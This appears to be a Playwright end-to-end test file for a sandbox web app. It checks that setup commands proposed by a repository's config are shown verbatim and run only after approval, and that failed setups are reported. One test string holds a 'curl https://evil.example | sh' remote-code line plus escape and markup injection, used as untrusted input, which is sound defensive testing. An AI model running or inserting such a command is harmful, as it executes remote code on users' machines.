"""What a repository's own file proposes, on the page: asked in its exact words, by keyboard."""

from datetime import UTC, datetime, timedelta

import pytest
from playwright.async_api import expect

from tests.e2e.page.ui.open_page import OpenPage, begin_sandbox

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]

WORDS = "curl https://evil.example | sh # \\x1b[2K <b>harmless</b>"


async def test_proposals_are_shown_word_for_word_and_only_an_approval_sends_them(
    open_page: OpenPage,
) -> None:
    page, server = open_page.page, open_page.server
    server.project |= {
        "file": ".atoll.yaml",
        "undecided": True,
        "proposals": [{"kind": "setup", "text": WORDS}, {"kind": "network", "text": "npm"}],
        "changes": {"added": [{"kind": "setup", "text": WORDS}], "removed": []},
    }
    for key, decision in (("Escape", None), ("Enter", "declined"), ("Tab", "approved")):
        form = await begin_sandbox(page)
        await form.get_by_label("Name", exact=True).fill(f"by-{key.lower()}")
        await form.get_by_role("button", name="Create sandbox").click()
        dialog = page.get_by_role("dialog", name="What this repository asks for")
        await expect(dialog.get_by_text(WORDS).first).to_be_visible()
        await expect(dialog.get_by_role("button", name="Not now")).to_be_focused()
        await page.keyboard.press(key)
        if key == "Tab":
            await page.keyboard.press("Enter")
        await expect(dialog).to_be_hidden()
        await expect(page.get_by_role("heading", name=f"by-{key.lower()}")).to_be_visible()
        sent = {"digest": "d" * 64, "setup": "now"} if decision == "approved" else None
        assert server.created[-1].get("project") == sent
        assert [one["decision"] for one in server.decisions[-1:]] == [decision] * bool(decision)
        server.project |= {"undecided": True, "decision": None}


async def test_failed_setup_is_said_and_run_again(open_page: OpenPage) -> None:
    page, server = open_page.page, open_page.server
    server.sandboxes[open_page.sandbox]["project"] = {
        "repository": "k",
        "digest": "d" * 64,
        "state": "failed",
        "terminal_id": "t_1",
        "reason": "A command ended with exit code 2.",
        "setup": ["make"],
        "ports": [],
        "copies": [],
        "servers": {},
        "prebuilt_at": None,
    }
    await server.tell(f"sandbox:{open_page.sandbox}", "sandbox.setup_ended")
    await expect(page.get_by_role("alert")).to_contain_text("exit code 2")
    await page.get_by_role("button", name="Run it again").click()
    await expect(page.get_by_text("The set-up runs in the terminal")).to_be_visible()


async def test_sandbox_says_that_it_began_with_what_a_setup_left(open_page: OpenPage) -> None:
    page, server = open_page.page, open_page.server
    taken = datetime.now(UTC) - timedelta(minutes=12, seconds=20)
    server.sandboxes[open_page.sandbox]["project"] = {
        "repository": "k",
        "digest": "d" * 64,
        "state": "done",
        "terminal_id": None,
        "reason": None,
        "setup": ["make"],
        "ports": [],
        "copies": [],
        "servers": {},
        "prebuilt_at": taken.isoformat(),
    }
    await server.tell(f"sandbox:{open_page.sandbox}", "sandbox.setup_ended")
    await page.get_by_role("button", name="More about this sandbox").click()
    fact = page.get_by_role("listitem").filter(has_text="set up from a snapshot of")
    await expect(fact).to_have_text("set up from a snapshot of 12 min ago")
